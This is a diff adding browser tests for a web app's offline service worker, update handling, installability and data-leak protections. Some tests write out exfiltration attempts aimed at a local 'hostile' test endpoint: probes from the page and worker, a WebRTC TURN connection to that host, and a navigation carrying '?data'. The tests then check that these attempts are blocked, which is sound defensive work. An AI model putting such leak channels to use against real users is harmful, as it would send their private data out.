@@ -1,0 +1,190 @@
+// The page without a network: kept as one version, with headers that a static host does not send, replaced as a whole, and never at the price of what is
+// stored beside it.
+
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, afterEach, before, beforeEach, test } from "node:test";
+import { serve, site } from "../../../scripts/serve.mjs";
+import { launch, open } from "../harness/browser.mjs";
+import { hostile } from "../harness/hostile.mjs";
+import { pageProbes, probe, workerProbes } from "../harness/probes.mjs";
+import { table } from "../harness/states.mjs";
+import { fit, openStudio } from "../harness/studio.mjs";
+
+let browser, root, server;
+before(async () => {
+  browser = await launch();
+});
+after(() => browser?.close());
+beforeEach(async () => {
+  root = mkdtempSync(join(tmpdir(), "cloister-offline-"));
+  cpSync(site, root, { recursive: true });
+  server = await serve({ root });
+});
+afterEach(async () => {
+  await server.close();
+  rmSync(root, { recursive: true, force: true });
+});
+
+/** A tab that has been to the page before and is served by the service worker. */
+async function secondVisit(options) {
+  const tab = await openStudio(browser, server.url, options);
+  await tab.page.evaluate(async () => void (await navigator.serviceWorker.ready));
+  await tab.page.reload();
+  await tab.page.waitForSelector("#fit-button:not([disabled])");
+  assert.equal(await tab.page.evaluate(() => navigator.serviceWorker.controller?.state), "activated");
+  return tab;
+}
+
+/** Changes a file of the site as a new build would: the service worker names its new hash. */
+function change(path, edit) {
+  const hash = (data) => `sha384-${createHash("sha384").update(data).digest("base64")}`;
+  const old = readFileSync(join(root, path));
+  const text = edit(old.toString());
+  writeFileSync(join(root, path), text);
+  const worker = readFileSync(join(root, "sw.js"), "utf8");
+  assert.ok(worker.includes(hash(old)));
+  const version = /"[0-9a-f]{16}"/.exec(worker)[0];
+  writeFileSync(join(root, "sw.js"), worker.replace(hash(old), hash(text)).replaceAll(version, `"${createHash("sha256").update(text).digest("hex").slice(0, 16)}"`));
+}
+
+test("after one visit the page opens and fits with the server gone", { timeout: 120_000 }, async () => {
+  const { page, quiet, close } = await secondVisit();
+  await server.close();
+  await page.goto(server.url);
+  await page.waitForSelector("#fit-button:not([disabled])");
+  await page.setInputFiles("#file", table);
+  await page.waitForFunction(() => document.querySelectorAll(".column").length === 3);
+  assert.equal(await fit(page), "done");
+  quiet();
+  await close();
+  server = await serve({ root }); // for afterEach
+});
+
+/** A tab on its second visit, with the person's own file open. */
+async function withFile() {
+  const tab = await secondVisit();
+  await tab.page.setInputFiles("#file", table);
+  await tab.page.waitForFunction(() => document.querySelectorAll(".column").length === 3);
+  return tab;
+}
+
+test("with the service worker, too, nothing leaves the page or its worker", { timeout: 120_000 }, async () => {
+  const endpoint = await hostile();
+  const { page, close } = await withFile();
+  await probe(page, pageProbes, endpoint.url);
+  const worker = page.workers()[0];
+  assert.ok(worker, "the worker that holds the data");
+  await probe(worker, workerProbes, endpoint.url);
+  assert.deepEqual(endpoint.reached(), {});
+  assert.equal(endpoint.bytes(), 0);
+  await close();
+  await endpoint.close();
+});
+
+test("with the service worker, the page can't be left for another host either, nor can WebRTC", { timeout: 120_000 }, async (t) => {
+  const version = Number.parseInt(browser.version(), 10);
+  if (version < 152) return t.skip(`Chromium ${version} does not know Connection-Allowlist; 152 and later do`);
+  const endpoint = await hostile();
+  const { page, close } = await withFile();
+  await page.evaluate((url) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${new URL(url).host}?transport=tcp`, username: "data", credential: "data" }] });
+    peer.createDataChannel("data");
+    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  }, endpoint.url);
+  await page.evaluate((url) => void (location.href = `${url}leave?data`), endpoint.url).catch(() => {});
+  await new Promise((resolve) => setTimeout(resolve, 2000));
+  assert.deepEqual(endpoint.reached(), {});
+  assert.equal(endpoint.bytes(), 0);
+  await close();
+  await endpoint.close();
+});
+
+test("on the first visit, without those headers, leaving does reach another host: the test above can fail", { timeout: 120_000 }, async () => {
+  const endpoint = await hostile();
+  const { page, close } = await openStudio(browser, server.url);
+  await page.evaluate((url) => void (location.href = `${url}leave?data`), endpoint.url).catch(() => {});
+  await page.waitForURL(/leave/);
+  assert.equal(endpoint.reached().leave, 1);
+  await close();
+  await endpoint.close();
+});
+
+test("a newer version waits, is offered, replaces the old one as a whole, and leaves what is stored alone", { timeout: 120_000 }, async () => {
+  const { page, quiet, close } = await secondVisit();
+  await page.evaluate(
+    () =>
+      new Promise((resolve, reject) => {
+        const opening = indexedDB.open("kept-by-a-test", 1);
+        opening.onupgradeneeded = () => opening.result.createObjectStore("charges").put("a charge", 1);
+        opening.onsuccess = () => (opening.result.close(), resolve());
+        opening.onerror = reject;
+      }),
+  );
+  change("index.html", (text) => text.replace("<title>", "<title>Newer. "));
+  await page.reload();
+  assert.doesNotMatch(await page.title(), /Newer/);
+  const offer = page.getByRole("button", { name: "Load it now" });
+  await offer.waitFor();
+  await Promise.all([page.waitForEvent("load"), offer.click()]);
+  assert.match(await page.title(), /Newer/);
+  await page.waitForSelector("#fit-button:not([disabled])");
+  assert.equal((await page.evaluate(() => caches.keys())).length, 1);
+  const stored = await page.evaluate(
+    () =>
+      new Promise((resolve, reject) => {
+        const opening = indexedDB.open("kept-by-a-test", 1);
+        opening.onsuccess = () => {
+          const reading = opening.result.transaction("charges").objectStore("charges").get(1);
+          reading.onsuccess = () => resolve(reading.result);
+        };
+        opening.onerror = reject;
+      }),
+  );
+  assert.equal(stored, "a charge");
+  quiet();
+  await close();
+});
+
+test("files that are not those of the build are not kept", { timeout: 120_000 }, async () => {
+  writeFileSync(join(root, "theme.js"), "// something else\n");
+  const { page, close } = await openStudio(browser, server.url);
+  await page.waitForFunction(async () => {
+    const registration = await navigator.serviceWorker.getRegistration();
+    return !registration || (!registration.installing && !registration.waiting && !registration.active);
+  });
+  assert.equal(await fit(page), "done");
+  await close();
+});
+
+test("the page can be installed", { timeout: 60_000 }, async () => {
+  const { page, close } = await secondVisit();
+  const devtools = await page.context().newCDPSession(page);
+  const { errors, data } = await devtools.send("Page.getAppManifest");
+  assert.deepEqual(errors, []);
+  const manifest = JSON.parse(data);
+  assert.equal(manifest.start_url, server.url);
+  const { installabilityErrors } = await devtools.send("Page.getInstallabilityErrors");
+  // A test's profile is a private window, in which nothing is ever installed.
+  assert.deepEqual(installabilityErrors.map((e) => e.errorId).filter((id) => id !== "in-incognito"), []);
+  await close();
+});
+
+test("leaving with a model of one's own that no file holds asks first", { timeout: 60_000 }, async () => {
+  const { page, close } = await openStudio(browser, server.url);
+  const asked = [];
+  page.on("dialog", (dialog) => (asked.push(dialog.type()), dialog.accept()));
+  assert.equal(await fit(page), "done"); // of the sample: nothing is lost
+  await page.reload();
+  assert.deepEqual(asked, []);
+  await page.waitForSelector("#fit-button:not([disabled])");
+  await page.setInputFiles("#file", table);
+  await page.waitForFunction(() => document.querySelectorAll(".column").length === 3);
+  assert.equal(await fit(page), "done");
+  await page.reload();
+  assert.deepEqual(asked, ["beforeunload"]);
+  await close();
+});
